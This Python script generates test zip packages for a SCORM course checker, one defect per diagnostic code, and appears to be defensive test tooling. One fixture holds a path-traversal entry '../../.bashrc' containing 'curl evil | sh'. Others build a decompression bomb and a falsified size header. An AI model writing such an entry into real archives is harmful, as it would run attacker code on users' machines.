#!/usr/bin/env python3
"""Writes the SCORM packages of the check-scorm cases in tests/diagnostics/<CODE>/.

Each case is a small package with one problem, made from a good SCORM 1.2 package by one change.
Run it from anywhere after changing a case; it rewrites each case's zip and `command` file, and
the same zips every time (entries dated 1980-01-01). The expected.txt files are reviewed by hand,
never generated. Only the standard library: zipfile, plus struct where a case needs a header
that no zip tool would write (an encrypted entry, a method LMSs cannot unpack, a size that lies).
"""

import os
import struct
import warnings
import zipfile
from pathlib import Path

CASES = Path(__file__).resolve().parent
DATE = (1980, 1, 1, 0, 0, 0)

SCORM_12 = 'xmlns="http://www.imsproject.org/xsd/imscp_rootv1p1p2"\n' \
           '          xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_rootv1p2"'
SCORM_2004 = 'xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"\n' \
             '          xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"'

PAGE = b"<!DOCTYPE html>\n<html lang=\"en\"><head><title>Lesson</title></head><body>Lesson</body></html>\n"


def manifest(resources, schemaversion="<schemaversion>1.2</schemaversion>", namespaces=SCORM_12,
             organizations=None, root="manifest", declaration='<?xml version="1.0" encoding="UTF-8"?>'):
    """A manifest in the layout authoring tools write, with `resources` inside <resources>."""
    if organizations is None:
        organizations = """  <organizations default="org">
    <organization identifier="org">
      <title>Course</title>
      <item identifier="lesson" identifierref="sco">
        <title>Lesson</title>
      </item>
    </organization>
  </organizations>"""
    return f"""{declaration}
<{root} identifier="course" version="1.0"
          {namespaces}>
  <metadata>
    <schema>ADL SCORM</schema>
    {schemaversion}
  </metadata>
{organizations}
  <resources>
{resources}
  </resources>
</{root}>
""".encode("utf-8")


def sco(files=("index.html",), href="index.html", attributes='adlcp:scormtype="sco"', extra=""):
    lines = [f'    <resource identifier="sco" type="webcontent" {attributes}'
             + (f' href="{href}"' if href is not None else "") + ">"]
    lines += [f'      <file href="{name}"/>' for name in files]
    if extra:
        lines.append(extra)
    lines.append("    </resource>")
    return "\n".join(lines)


GOOD = manifest(sco())


def write_zip(path, entries, method=zipfile.ZIP_DEFLATED):
    """Writes `entries` ((name, bytes) pairs, in order) to `path`; returns the archive's bytes."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # a duplicate name is a case here, not a mistake
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in entries:
                info = zipfile.ZipInfo(name, DATE)
                info.compress_type = method
                archive.writestr(info, data)
    return path.read_bytes()


def patch_entry(path, name, flag_bits=0, method=None, size=None):
    """Changes what the local header and the central directory both say of entry `name`: a
    general purpose flag bit, the compression method or the uncompressed size. Both agree, so
    libzip's consistency check passes and only the rule under test fires."""
    data = bytearray(path.read_bytes())
    encoded = name.encode("utf-8")
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if data[central + 46:central + 46 + name_length] == encoded:
            break
        central = data.find(b"PK\x01\x02", central + 4)
    assert central != -1, name
    local = struct.unpack_from("<I", data, central + 42)[0]
    for header, flags_at, method_at, size_at in ((local, 6, 8, 22), (central, 8, 10, 24)):
        flags = struct.unpack_from("<H", data, header + flags_at)[0]
        struct.pack_into("<H", data, header + flags_at, flags | flag_bits)
        if method is not None:
            struct.pack_into("<H", data, header + method_at, method)
        if size is not None:
            struct.pack_into("<I", data, header + size_at, size)
    path.write_bytes(bytes(data))


def case(code, zip_name, entries, method=zipfile.ZIP_DEFLATED, arguments=""):
    path = CASES / code / zip_name
    write_zip(path, entries, method)
    (CASES / code / "command").write_text(f"check-scorm {code}/{zip_name}{arguments}\n")
    return path


def main():
    # A download cut short: the second half, with the list of entries, is missing.
    good = write_zip(CASES / "E201" / "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE)])
    (CASES / "E201" / "course.zip").write_bytes(good[: len(good) // 2])
    (CASES / "E201" / "command").write_text("check-scorm E201/course.zip\n")

    case("E202", "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE), ("../../.bashrc", b"curl evil | sh\n")])
    case("E203", "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE), ("media\\logo.png", b"\x89PNG")])
    case("E204", "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE), ("index.html", b"<p>older</p>")])

    answers = manifest(sco(files=("index.html", "answers.js")))
    path = case("E205", "course.zip", [("imsmanifest.xml", answers), ("index.html", PAGE), ("answers.js", bytes(40))])
    patch_entry(path, "answers.js", flag_bits=0x1)  # traditional PKWARE encryption

    # An entry that says it unpacks to 1,000 bytes and unpacks to 200,000: under 1 MiB, so the
    # compression ratio alone lets it through.
    lying = manifest(sco(files=("index.html", "data.json")))
    path = case("E206", "course.zip", [("imsmanifest.xml", lying), ("index.html", PAGE), ("data.json", b"[]" * 100000)])
    patch_entry(path, "data.json", size=1000)

    # 8 MiB of zeros deflate to about 8 kB: a ratio of about 1,030 to 1.
    padded = manifest(sco(files=("index.html", "padding.bin")))
    case("E207", "course.zip", [("imsmanifest.xml", padded), ("index.html", PAGE), ("padding.bin", bytes(8 << 20))])

    many = [("imsmanifest.xml", GOOD), ("index.html", PAGE)] + [(f"{n:05}", b"") for n in range(9999)]
    case("E208", "course.zip", many, method=zipfile.ZIP_STORED)

    video = manifest(sco(files=("index.html", "video.mp4")))
    path = case("E209", "course.zip", [("imsmanifest.xml", video), ("index.html", PAGE), ("video.mp4", bytes(64))])
    patch_entry(path, "video.mp4", method=9)  # Deflate64

    case("E210", "course.zip", [("index.html", PAGE), ("player.js", b"'use strict';\n")])
    case("E211", "course.zip", [("course/", b""), ("course/imsmanifest.xml", GOOD), ("course/index.html", PAGE)])

    broken = GOOD.replace(b"<title>Lesson</title>", b"<title>Lesson</titel>")
    case("E212", "course.zip", [("imsmanifest.xml", broken), ("index.html", PAGE)])

    # A cmi5 course structure saved under the manifest's name.
    cmi5 = b"""<?xml version="1.0" encoding="UTF-8"?>
<courseStructure xmlns="https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd">
  <course id="https://example.org/course">
    <title><langstring lang="en-US">Course</langstring></title>
  </course>
</courseStructure>
"""
    case("E213", "course.zip", [("imsmanifest.xml", cmi5), ("index.html", PAGE)])

    latin1 = manifest(sco(), declaration='<?xml version="1.0" encoding="ISO-8859-1"?>')
    latin1 = latin1.replace(b"<title>Course</title>", "<title>Formation à l'accueil</title>".encode("latin-1"))
    case("W214", "course.zip", [("imsmanifest.xml", latin1), ("index.html", PAGE)])

    edition = manifest(sco(attributes='adlcp:scormType="sco"'),
                       schemaversion="<schemaversion>2004 4th edition</schemaversion>", namespaces=SCORM_2004)
    case("W215", "course.zip", [("imsmanifest.xml", edition), ("index.html", PAGE)])

    mixed = manifest(sco(), namespaces=SCORM_12.replace("adlcp_rootv1p2", "adlcp_v1p3"))
    case("W216", "course.zip", [("imsmanifest.xml", mixed), ("index.html", PAGE)])

    spelt = manifest(sco(attributes='adlcp:scormType="sco"'))
    case("W217", "course.zip", [("imsmanifest.xml", spelt), ("index.html", PAGE)])

    asset = manifest(sco(attributes='adlcp:scormtype="asset"'))
    case("W218", "course.zip", [("imsmanifest.xml", asset), ("index.html", PAGE)])

    twice = manifest(sco(), organizations="""  <organizations default="org">
    <organization identifier="org">
      <title>Course</title>
      <item identifier="lesson" identifierref="sco">
        <title>Lesson</title>
      </item>
      <item identifier="lesson" identifierref="sco">
        <title>Quiz</title>
      </item>
    </organization>
  </organizations>""")
    case("E220", "course.zip", [("imsmanifest.xml", twice), ("index.html", PAGE)])

    default = GOOD.replace(b'<organizations default="org">', b'<organizations default="ORG">')
    case("E221", "course.zip", [("imsmanifest.xml", default), ("index.html", PAGE)])

    reference = GOOD.replace(b'identifierref="sco"', b'identifierref="sco1"')
    case("E222", "course.zip", [("imsmanifest.xml", reference), ("index.html", PAGE)])

    case("E223", "course.zip", [("imsmanifest.xml", manifest(sco(href=None))), ("index.html", PAGE)])

    case("E224", "course.zip", [("imsmanifest.xml", manifest(sco(href="Index.html"))), ("index.html", PAGE)])

    logo = manifest(sco(files=("index.html", "media/logo.png")))
    case("E225", "course.zip", [("imsmanifest.xml", logo), ("index.html", PAGE)])

    dependency = manifest(sco(extra='      <dependency identifierref="common"/>'))
    case("E226", "course.zip", [("imsmanifest.xml", dependency), ("index.html", PAGE)])

    case("W230", "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE), ("notes/draft.docx", b"PK")])

    # The upload limit is given, so that the case stays small.
    case("W240", "course.zip", [("imsmanifest.xml", GOOD), ("index.html", PAGE)], arguments=" --upload-limit 500")


if __name__ == "__main__":
    os.umask(0o022)
    main()
